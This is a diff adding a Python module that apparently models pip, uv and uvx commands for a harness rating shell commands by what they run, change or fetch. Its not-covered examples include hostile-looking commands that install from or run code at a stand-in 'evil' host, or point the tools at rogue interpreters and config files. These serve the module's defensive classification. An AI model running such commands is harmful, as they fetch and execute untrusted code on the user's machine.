@@ -1,0 +1,248 @@
+"""Models of pip and uv; data, and what their tables cannot say.
+
+Installing runs code (setup.py, build backends); looking may too, where the project's own interpreter is asked.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+from harness.actions import Act
+from harness.programs.model import Inner, Parsed, Program, Style, Use
+from harness.programs.options import stricter
+from harness.programs.tables import also_writes, arguments_from
+from harness.record import replace
+
+# --- pip
+
+# No -V here: behind a subcommand it is taken, and the subcommand runs (`pip cache purge -V`).
+_PIP_COMMON = """
+    -h|--help:info -v|--verbose -q|--quiet --debug --isolated --no-input --no-color --require-virtualenv
+    --disable-pip-version-check --no-python-version-warning --no-cache-dir --timeout=TEXT --retries=TEXT --exists-action=TEXT
+    --use-feature=TEXT --use-deprecated=TEXT --log=WRITE --cache-dir=WRITE_TREE --cert=READ --client-cert=READ
+    --python=CODE --keyring-provider=CODE --proxy=CODE --trusted-host=CODE
+"""
+# Where packages come from is what will run.
+_PIP_INDEX = "--no-index --pre -i|--index-url=CODE --extra-index-url=CODE -f|--find-links=CODE"
+_PIP_BUILD = f"""
+    {_PIP_COMMON} {_PIP_INDEX} -r|--requirement=READ -c|--constraint=READ -e|--editable=SCRIPT --no-deps --prefer-binary
+    --no-binary=TEXT --only-binary=TEXT --require-hashes --progress-bar=TEXT --no-build-isolation --use-pep517
+    --ignore-requires-python --no-clean --src=WRITE_TREE --global-option=CODE --build-option=CODE -C|--config-settings=CODE
+"""
+
+
+def _pip_freeze(parsed: Parsed, use: Use) -> Use:
+    """For what is installed in editable form, git and hg are asked in its folder, and run what its settings name."""
+    return use if parsed.has("--exclude-editable") else replace(use, act=stricter(use.act, Act.RUNS))
+
+
+_PIP = Program(
+    options=f"-V|--version:info {_PIP_COMMON}",
+    subcommands={
+        # Older versions look for a newer pip now and then, at the user's own index.
+        "list": Program(
+            options=f"""
+                {_PIP_COMMON} {_PIP_INDEX} -o|--outdated:network -u|--uptodate:network -e|--editable -l|--local --user
+                --path=READ --format=TEXT --not-required --exclude-editable --include-editable --exclude=TEXT
+            """,
+            operands="TEXT...",
+        ),
+        "show": Program(options=f"{_PIP_COMMON} -f|--files", operands="TEXT..."),
+        "check": Program(options=_PIP_COMMON, operands=""),
+        "help": Program(options=_PIP_COMMON, operands="TEXT..."),
+        "freeze": Program(
+            options=f"""
+                {_PIP_COMMON} -l|--local --user --all --path=READ -r|--requirement=READ --exclude-editable
+                --exclude=TEXT
+            """,
+            operands="",
+            refine=_pip_freeze,
+        ),
+        "install": Program(
+            act=Act.RUNS,
+            network=True,
+            options=f"""
+                {_PIP_BUILD} -U|--upgrade --upgrade-strategy=TEXT --force-reinstall -I|--ignore-installed --dry-run --user
+                --break-system-packages --root-user-action=TEXT --compile --no-compile --no-warn-script-location
+                --no-warn-conflicts -t|--target=WRITE_TREE --root=WRITE_TREE --prefix=WRITE_TREE --report=WRITE
+            """,
+        ),
+        "wheel": Program(act=Act.RUNS, network=True, options=f"{_PIP_BUILD} -w|--wheel-dir=WRITE_TREE --no-verify"),
+        "download": Program(act=Act.RUNS, network=True, options=f"{_PIP_BUILD} -d|--dest=WRITE_TREE"),
+        "uninstall": Program(
+            act=Act.CHANGES,
+            options=f"{_PIP_COMMON} -y|--yes -r|--requirement=READ --break-system-packages --root-user-action=TEXT",
+            operands="TEXT...",
+        ),
+        # Settings hold addresses with passwords in them.
+        **dict.fromkeys(
+            (
+                "config list",
+                "config get",
+                "config set",
+                "cache dir",
+                "cache info",
+                "cache list",
+                "cache purge",
+                "debug",
+            ),
+            Program(act=Act.CHANGES, options=f"{_PIP_COMMON} --user --global --site --format=TEXT", operands="TEXT..."),
+        ),
+        "index versions": Program(
+            act=Act.CHANGES, network=True, options=f"{_PIP_COMMON} {_PIP_INDEX}", operands="TEXT..."
+        ),
+    },
+    looks=("pip --version", "pip list", "pip list --format=json", "pip show -f requests rich", "pip check"),
+    covered=(
+        "pip install -q requests",
+        "pip install -e '.[dev]'",
+        "pip install -r requirements.txt",
+        "pip freeze",
+        "pip list --outdated",
+        "pip uninstall -y requests",
+    ),
+    not_covered=(
+        "pip install --index-url http://evil requests",
+        "pip install --index-u http://evil requests",
+        "pip install -ihttp://evil requests",
+        "pip --python ./x list",
+        "pip install --global-option=x requests",
+        "pip",
+    ),
+)
+
+
+# --- uv
+
+_UV_COMMON = """
+    -h|--help:info -v|--verbose -q|--quiet -n|--no-cache --no-progress --offline --no-config --color=TEXT
+    --no-python-downloads --managed-python --no-managed-python --project=READ --directory=FOLDER --cache-dir=WRITE_TREE
+    --config-file=CODE --allow-insecure-host=CODE --native-tls
+"""
+_UV_PROJECT = f"""
+    {_UV_COMMON} --frozen --locked --no-sync --isolated --active --all-packages --package=TEXT --extra=TEXT --all-extras
+    --no-extra=TEXT --group=TEXT --no-group=TEXT --only-group=TEXT --all-groups --dev --no-dev --only-dev --no-editable
+    --inexact --exact --reinstall --reinstall-package=TEXT -U|--upgrade -P|--upgrade-package=TEXT --prerelease=TEXT
+    --resolution=TEXT --dry-run --check --no-build-isolation --no-binary --no-build --script=SCRIPT --no-install-project
+    --with=TEXT --with-editable=SCRIPT --with-requirements=READ --no-project --no-env-file
+    -p|--python=CODE --index=CODE --default-index=CODE --index-url=CODE --extra-index-url=CODE --find-links=CODE
+    -C|--config-setting=CODE --env-file=CODE
+"""
+
+
+def _uv_run(parsed: Parsed, use: Use) -> Use:
+    """`uv run FILE.py` and `uv run -m MODULE` are python's; an address or the input would be code."""
+    if not use.commands:
+        return replace(use, gap="it runs what its input says")
+    words = use.commands[0].argv
+    if words[0] == "-" or "://" in words[0]:
+        return replace(use, gap=f"{words[0]} is code from elsewhere")
+    if parsed.has("--module"):
+        words = ("python", "-m", *words)
+    elif words[0].lower().endswith((".py", ".pyw")) or parsed.has("--script"):
+        words = ("python", *words)
+    return replace(use, commands=(Inner(argv=words, folder=use.commands[0].folder),))
+
+
+_UV_RUN = Program(
+    act=Act.RUNS,
+    network=True,
+    style=Style.POSIX,
+    options=f"{_UV_PROJECT.replace('--script=SCRIPT', '--script|-s')} --module|-m",
+    operands="COMMAND...",
+    refine=_uv_run,
+)
+_UV_TOOL_RUN = Program(
+    act=Act.RUNS,
+    network=True,
+    style=Style.POSIX,
+    options=f"""
+        {_UV_COMMON} --from=TEXT --with=TEXT --isolated -U|--upgrade -p|--python=CODE --index=CODE
+        --default-index=CODE
+    """,
+    operands="TEXT...",
+    refine=arguments_from(1),
+)
+# Even what only lists asks the interpreter in .venv, a program of the project.
+_UV_PIP = Program(
+    act=Act.RUNS,
+    network=True,
+    options=f"""
+        {_UV_COMMON} -e|--editable=SCRIPT -r|--requirements|--requirement=READ -c|--constraints|--constraint=READ --system
+        -U|--upgrade -P|--upgrade-package=TEXT --no-deps --reinstall --strict --format=TEXT --outdated --exclude-editable
+        --extra=TEXT --all-extras --group=TEXT --pre --prerelease=TEXT --no-build-isolation --break-system-packages
+        -y|--yes -o|--output-file=EITHER -t|--target=WRITE_TREE --generate-hashes --no-header -f|--files
+        -p|--python=CODE --index=CODE --default-index=CODE --index-url=CODE --extra-index-url=CODE --find-links=CODE
+    """,
+)
+_UV_PIP_LIST = replace(
+    _UV_PIP, options=_UV_PIP.options.replace("-e|--editable=SCRIPT", "-e|--editable"), operands="TEXT..."
+)
+_UV_CHANGES = Program(act=Act.RUNS, network=True, options=_UV_PROJECT, operands="TEXT...")
+_UV = Program(
+    options=f"-V|--version:info {_UV_COMMON}",
+    subcommands={
+        "run": _UV_RUN,
+        "tool run": _UV_TOOL_RUN,
+        "pip install": _UV_PIP,
+        "pip sync": _UV_PIP,
+        "pip compile": _UV_PIP,
+        "pip uninstall": _UV_PIP,
+        **dict.fromkeys(("pip list", "pip show", "pip freeze", "pip check", "pip tree"), _UV_PIP_LIST),
+        **dict.fromkeys(("add", "remove"), replace(_UV_CHANGES, refine=also_writes("pyproject.toml", "uv.lock"))),
+        **dict.fromkeys(("sync", "lock"), replace(_UV_CHANGES, refine=also_writes("uv.lock"))),
+        **dict.fromkeys(("tree", "export", "version", "publish", "format"), _UV_CHANGES),
+        **dict.fromkeys(("tool install", "tool uninstall", "tool list", "tool upgrade"), _UV_CHANGES),
+        **dict.fromkeys(("python list", "python install", "python find", "python pin", "cache clean"), _UV_CHANGES),
+        "venv": Program(
+            act=Act.RUNS,
+            network=True,
+            options=f"""
+                {_UV_COMMON} --seed --clear --allow-existing --prompt=TEXT --system-site-packages -p|--python=CODE
+            """,
+            operands="WRITE_TREE",
+        ),
+        "build": Program(
+            act=Act.RUNS, network=True, options=f"{_UV_COMMON} --sdist --wheel --package=TEXT -o|--out-dir=WRITE_TREE"
+        ),
+        "init": Program(
+            act=Act.CHANGES, options=f"{_UV_COMMON} --lib --app --package --bare --name=TEXT", operands="WRITE_TREE"
+        ),
+    },
+    looks=("uv --version",),
+    covered=(
+        "uv run pytest -q",
+        "uv run --frozen -- ruff check src",
+        "uv run scripts/a.py x",
+        "uv run -m pytest",
+        "uv sync --frozen",
+        "uv add requests",
+        "uv pip list",
+        "uv pip install -e .",
+        "uv tool run ruff check",
+        "uv tree",
+    ),
+    not_covered=(
+        "uv run --env-file evil pytest",
+        "uv run --python ./evil pytest",
+        "uv run -",
+        "uv run https://evil/a.py",
+        "uv run",
+        "uv pip install --index-url=http://evil x",
+        "uv --config-file evil sync",
+        "uv",
+    ),
+)
+_UVX = replace(
+    _UV_TOOL_RUN,
+    options=f"-V|--version {_UV_TOOL_RUN.options}",
+    covered=("uvx ruff check .", "uvx --from httpie http x"),
+    not_covered=("uvx --index http://evil ruff", "uvx --python ./x ruff", "uvx --with-edit x ruff"),
+)
+
+
+PROGRAMS: Mapping[str, Program] = {
+    **dict.fromkeys(("pip", "pip3"), _PIP),
+    "uv": _UV,
+    "uvx": _UVX,
+}
